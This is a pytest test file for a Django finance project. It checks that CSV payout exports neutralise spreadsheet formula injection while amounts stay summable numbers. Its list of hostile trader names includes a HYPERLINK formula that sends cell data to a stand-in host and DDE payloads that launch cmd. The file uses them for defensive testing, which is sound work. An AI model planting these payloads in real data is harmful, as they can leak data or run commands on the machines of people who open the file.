"""Issue 12, hole 3: formula injection in the CSV finance opens in a spreadsheet (core/csv_export.py).

A trader named `=HYPERLINK(...)` (or `+`, `-`, `@`, a tab, a carriage return, their full-width forms) used to reach
the payout export raw. Every cell of every CSV the project writes is now neutralised by one function; amounts stay
numbers a spreadsheet can sum, negatives included.
"""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from campaigns.models import RewardPool
from core.csv_export import FORMULA_STARTS, csv_cell, csv_document
from rewards.services.payouts import payout_batch_approve, payout_batch_calculate
from tests.factories import EnrollmentFactory, LeadTraderFactory
from tests.payouts_helpers import period_of, phase2, post, sh, staff

HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",  # leading spaces: some spreadsheets trim them and then see the formula
    "\uff1d1+1",  # full-width equals sign
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "-12.50",  # a person's text that looks like a number stays text
    'ok",=1+1',  # a quote and a separator inside: still one quoted cell
    "ok;=1+1",  # the semicolon a European-locale spreadsheet splits on: still one cell
]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_text_cell_never_starts_a_formula(name):
    cell = csv_cell(name)
    assert cell.lstrip(" ")[:1] not in FORMULA_STARTS
    if name.lstrip(" ")[:1] in FORMULA_STARTS:
        assert cell == "'" + name  # the spreadsheets' text mark, the text itself kept whole
    (row,) = read(csv_document(["name"], [[name]]))[1:]
    assert row == [cell]


def test_numbers_stay_numbers_and_text_is_quoted():
    text = csv_document(
        ["uid", "amount", "count", "ratio", "name", "empty", "flag"],
        [["12345", Decimal("-12.50"), -3, 0.25, "-12.50", None, True]],
    )
    header, line = text.splitlines()
    # Bare numbers (what a spreadsheet sums), quoted text; a bool and None are text, never numbers.
    assert line == '"12345",-12.50,-3,0.25,"\'-12.50","","True"'
    assert header == '"uid","amount","count","ratio","name","empty","flag"'
    # Values no spreadsheet can read as a number are written as text, neutralised like any other text.
    assert csv_cell(Decimal("NaN")) == "NaN" and csv_cell(float("-inf")) == "'-inf"


@pytest.mark.django_db
def test_the_payout_export_neutralises_every_hostile_cell(client):
    """The attack: hostile display names and UIDs reach an approved batch; the exported cells are all inert."""
    campaign = phase2()
    for n, name in enumerate(HOSTILE_NAMES):
        trader = LeadTraderFactory(
            display_name=name[:64],
            exchange_uid=f"=1+{n}" if n % 2 else f"@U{n}",
            email=f"h{n}@example.com",
            active=True,
        )
        EnrollmentFactory(campaign=campaign, trader=trader)
        for day in (13, 14, 15):
            post(campaign, trader, sh(2026, 2, day, 10), views=100 + n, likes=n, copy_volume=str(10 + n))
    batch = payout_batch_calculate(
        period=period_of(campaign, RewardPool.Kind.CONTENT, 1), actor=staff("calc", "change_payoutbatch")
    )
    payout_batch_approve(batch_id=batch.pk, actor=staff("boss", "approve_payoutbatch"))
    client.force_login(staff("finance", "view_payoutbatch"))
    response = client.get(reverse("admin:rewards_payoutbatch_export", args=[batch.pk]))
    assert response.status_code == 200
    text = response.content.decode()
    rows = read(text)
    header, lines = rows[0], rows[1:]
    assert len(lines) == len(HOSTILE_NAMES)
    amount = header.index("amount")
    for row in lines:
        for column, cell in enumerate(row):
            if column == amount:
                assert re.fullmatch(r"\d+\.\d\d", cell), cell  # a number, as the spreadsheet must read it
            else:
                assert cell.lstrip(" ")[:1] not in FORMULA_STARTS, (header[column], cell)
    assert sum(Decimal(row[amount]) for row in lines) == batch.total
    # Read as a spreadsheet would type them: unquoted cells are numbers (only the amounts), quoted cells text.
    typed = list(csv.reader(io.StringIO(text), quoting=csv.QUOTE_NONNUMERIC))[1:]
    assert all(isinstance(c, float) == (i == amount) for row in typed for i, c in enumerate(row))


def test_every_csv_the_project_writes_goes_through_csv_document():
    """One function, used everywhere: no other module of the project writes CSV itself."""
    base = Path(settings.BASE_DIR)
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\.to_csv\(")
    offenders = [
        str(path.relative_to(base))
        for folder in ("campaigns", "leaderboard", "regime", "config", "bench")
        for path in (base / folder).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8")) and path.name != "csv_export.py"
    ]
    assert offenders == []
